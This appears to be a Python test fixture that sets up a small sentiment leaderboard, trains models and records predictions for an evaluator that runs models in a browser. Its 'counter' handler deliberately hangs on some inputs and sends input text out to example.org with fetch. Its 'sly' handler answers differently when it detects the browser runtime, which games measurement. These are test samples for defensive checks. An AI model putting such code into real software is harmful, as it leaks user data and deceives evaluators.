"""A small world whose models run in a page: trained, asked, and their answers stored, as an evaluation leaves them."""

from __future__ import annotations

import json
from pathlib import Path

from small_boards import small_board, small_model

from evaluator.data.datasets import read_dataset
from evaluator.data.tasks import get_task
from evaluator.measure.models import open_model
from evaluator.measure.models.preparing import prepare
from evaluator.measure.run.plan import board_model
from evaluator.records.board import Boards, load_boards
from evaluator.records.store import Store
from evaluator.score.examples import dataset_source
from evaluator.score.importing import PredictionsFile, import_predictions, submission

#: Models by id: what makes each, or its handler.
TRAINED = {"tfidf": "tfidf-logreg", "vader": "vader"}
HANDLERS = {
    # Reads a word list of its own; a text may keep it busy for ever, or have it try to send the text away.
    "counter": """
from words import GOOD
def load(directory): pass
def predict(example):
    text = example["statement"]
    while "for ever" in text: pass
    if "send" in text: __import__("js").fetch("https://example.org/?" + text)
    good = sum(word in GOOD for word in text.lower().split())
    return {"label": "positive" if good else "negative", "confidence": 0.5 + 0.25 * bool(good)}
""",
    # Another model somewhere else than on the machine that measured it.
    "sly": """
import sys
def load(directory): pass
def predict(example):
    return "positive" if sys.platform == "emscripten" else "negative"
""",
}
WORDS = "GOOD = {'good', 'lovely', 'great'}\n"
SUBJECTS = ("film", "plot", "actor", "song", "ending")
VERDICTS = {
    "a good": "positive",
    "a lovely": "positive",
    "a bad": "negative",
    "a dull": "negative",
    "no great": "negative",
}


def write_tried(folder: Path) -> Path:
    """The board file; data, trained models and results are beside it."""
    rows = written_rows()
    (folder / "d.tsv").write_text("".join(rows))
    (folder / "t.tsv").write_text("".join(rows[::7]).replace("number", "case"))
    for name, code in HANDLERS.items():
        (folder / name).mkdir()
        (folder / name / "handler.py").write_text(code)
    (folder / "counter" / "words.py").write_text(WORDS)
    write_board(folder)
    boards = load_boards(folder / "board.toml")
    train = read_dataset(dataset_source(boards.dataset("t"), folder))
    for recipe in TRAINED.values():
        prepare(recipe, {}, train if recipe != "vader" else None, 0, folder / ".steelyard" / "models")
    for model in boards.models:
        store_answers(folder, boards, model.id)
    return folder / "board.toml"


def written_rows() -> list[str]:
    """500 sentences with their labels, a line each."""
    return [
        f"{verdict} {subject} number {at}\t{label}\n"
        for at in range(20)
        for subject in SUBJECTS
        for verdict, label in VERDICTS.items()
    ]


def write_board(folder: Path, site: str = 'browser_models = ["tfidf", "vader", "counter", "sly"]') -> None:
    """The board file, with these lines under [site]."""
    train = small_board("accuracy").split("[[boards]]")[0].split("[[datasets]]")[1]
    train = (
        train.replace('"d"', '"t"').replace('"D"', '"T"').replace("d.tsv", "t.tsv") + 'role = "training"\n'
    )
    board = small_board("accuracy").replace(
        "\n[[datasets]]", f"\n[site]\n{site}\n[[datasets]]{train}\n[[datasets]]", 1
    )
    trained = "".join(
        f'[[models]]\nid = "{id_}"\nlabel = "{id_.title()}"\ntask = "sentiment"\nrecipe = "{recipe}"\n'
        + ('train = "t"\n' if recipe != "vader" else "")
        for id_, recipe in TRAINED.items()
    )
    (folder / "board.toml").write_text(board + trained + "".join(map(small_model, HANDLERS)))


def store_answers(folder: Path, boards: Boards, model: str, dataset: str = "d") -> None:
    """What the model itself, opened by its own adapter, answers to every example of a dataset."""
    spec = next(one for one in boards.models if one.id == model)
    data = read_dataset(dataset_source(boards.dataset(dataset), folder))
    to_load = board_model(spec, boards, folder, folder, folder / ".steelyard", data.labels)
    opened = open_model(to_load.adapter, to_load.directory, to_load.options, to_load.task, to_load.labels)
    task = get_task(data.task)
    key = "label" if task.answer == "label" else "answer"
    said = []
    for example in data.examples:
        answer = opened.predict({name: example[name] for name in task.fields})
        said.append({"id": example["id"], **({key: answer} if isinstance(answer, str) else answer)})
    file = folder / f"{model}.jsonl"
    file.write_text("".join(json.dumps(row) + "\n" for row in said))
    store = Store(folder / "results")
    import_predictions(submission(boards, PredictionsFile(file), dataset, model), data, store)
